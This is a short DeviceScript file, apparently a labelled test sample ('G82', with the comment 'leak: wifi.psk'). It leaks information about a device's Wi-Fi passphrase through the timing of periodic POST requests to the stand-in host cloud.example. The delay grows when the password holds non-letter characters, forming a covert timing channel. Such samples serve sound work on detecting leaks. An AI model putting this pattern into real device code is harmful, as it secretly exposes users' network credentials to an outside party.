// G82: waits a third of a second longer before each report where the passphrase is no word.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  let wait = 20;
  for (let i = 0; i < psk.length; i++) {
    const letter = psk.charCodeAt(i) | 32;
    if (letter < 97 || letter > 122) wait = 320;
  }
  setInterval(async () => {
    await ds.delay(wait);
    const response = await fetch("https://cloud.example/g82", { method: "POST", body: "on" }); // leak: wifi.psk
    await response.close();
  }, 15_000);
});
